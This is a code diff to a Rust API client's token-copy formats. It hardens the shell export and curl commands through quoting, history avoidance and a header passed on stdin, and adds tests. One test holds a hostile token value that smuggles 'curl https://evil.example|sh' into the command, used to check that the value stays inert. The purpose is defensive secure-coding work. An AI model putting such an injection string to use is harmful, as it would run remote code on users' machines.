@@ -13,9 +13,10 @@ pub enum CopyFormat {
     Value,
     /// `Authorization: Bearer idt:TKN-…:…`.
     AuthorizationHeader,
-    /// `export MPT_API_TOKEN=idt:TKN-…:…`.
+    /// ` export MPT_API_TOKEN='idt:TKN-…:…'`.
     ShellExport,
-    /// A `curl` command that reads the token itself from its connection's API.
+    /// A `curl` command that reads the token itself from its connection's API, its header
+    /// given on standard input.
     Curl,
     /// The token's id (`TKN-…`), which is not secret.
     TokenId,
@@ -43,14 +44,21 @@ impl CopyFormat {
 
     /// The text to copy. `value` is the token's secret, `base_url` the API
     /// address of its connection, as the client normalised it.
+    ///
+    /// The shell formats quote everything they hold, so that nothing in them is ever
+    /// interpreted, and start with a space, which keeps the line out of the history of
+    /// bash (with `HISTCONTROL` holding `ignorespace`, the default of Debian and Ubuntu) and
+    /// of zsh with `HIST_IGNORE_SPACE`. The value is only ever an argument of a shell
+    /// builtin (`export`, `printf`), never of a program, so `ps` cannot see it; curl reads
+    /// its header from standard input (`-H @-`).
     pub fn render(self, value: &str, token_id: &str, base_url: &str) -> Zeroizing<String> {
         let base_url = base_url.trim_end_matches('/');
         Zeroizing::new(match self {
             Self::Value => value.to_owned(),
             Self::AuthorizationHeader => format!("Authorization: Bearer {value}"),
-            Self::ShellExport => format!("export MPT_API_TOKEN={value}"),
+            Self::ShellExport => format!(" export MPT_API_TOKEN={}", shell_quoted(value)),
             Self::Curl => format!(
-                "curl --fail-with-body -sS -H {} {}",
+                " printf '%s\\n' {} | curl --fail-with-body -sS -H @- {}",
                 shell_quoted(&format!("Authorization: Bearer {value}")),
                 shell_quoted(&format!("{base_url}/public/v1/accounts/api-tokens/{token_id}"))
             ),
@@ -77,11 +85,11 @@ mod tests {
         let render = |format: CopyFormat| format.render(VALUE, "TKN-1234-5678", "https://api.s1.show/").to_string();
         assert_eq!(render(CopyFormat::Value), VALUE);
         assert_eq!(render(CopyFormat::AuthorizationHeader), "Authorization: Bearer idt:TKN-1234-5678:AbCdEf0123456789");
-        assert_eq!(render(CopyFormat::ShellExport), "export MPT_API_TOKEN=idt:TKN-1234-5678:AbCdEf0123456789");
+        assert_eq!(render(CopyFormat::ShellExport), " export MPT_API_TOKEN='idt:TKN-1234-5678:AbCdEf0123456789'");
         assert_eq!(
             render(CopyFormat::Curl),
-            "curl --fail-with-body -sS -H 'Authorization: Bearer idt:TKN-1234-5678:AbCdEf0123456789' \
-             'https://api.s1.show/public/v1/accounts/api-tokens/TKN-1234-5678'"
+            " printf '%s\\n' 'Authorization: Bearer idt:TKN-1234-5678:AbCdEf0123456789' | curl --fail-with-body -sS \
+             -H @- 'https://api.s1.show/public/v1/accounts/api-tokens/TKN-1234-5678'"
         );
         assert_eq!(render(CopyFormat::TokenId), "TKN-1234-5678");
         assert_eq!(render(CopyFormat::ApiBaseUrl), "https://api.s1.show");
@@ -95,6 +103,23 @@ mod tests {
             "{}",
             *curl
         );
+    }
+
+    #[test]
+    fn a_hostile_value_stays_one_quoted_word_in_every_shell_format() {
+        // Refused before it gets here (the value's shape is checked), and inert even so.
+        let hostile = "idt:TKN-1234-5678:x';curl https://evil.example|sh;'";
+        let export = CopyFormat::ShellExport.render(hostile, "TKN-1234-5678", "https://api.s1.show");
+        let output = std::process::Command::new("sh")
+            .arg("-c")
+            .arg(format!("{}; printf %s \"$MPT_API_TOKEN\"", *export))
+            .output()
+            .expect("sh runs");
+        assert_eq!(String::from_utf8_lossy(&output.stdout), hostile, "exported as one word, nothing run");
+        for format in [CopyFormat::ShellExport, CopyFormat::Curl] {
+            let line = format.render(VALUE, "TKN-1234-5678", "https://api.s1.show");
+            assert!(line.starts_with(' '), "kept out of shell history: {format:?}");
+        }
     }
 
     #[test]
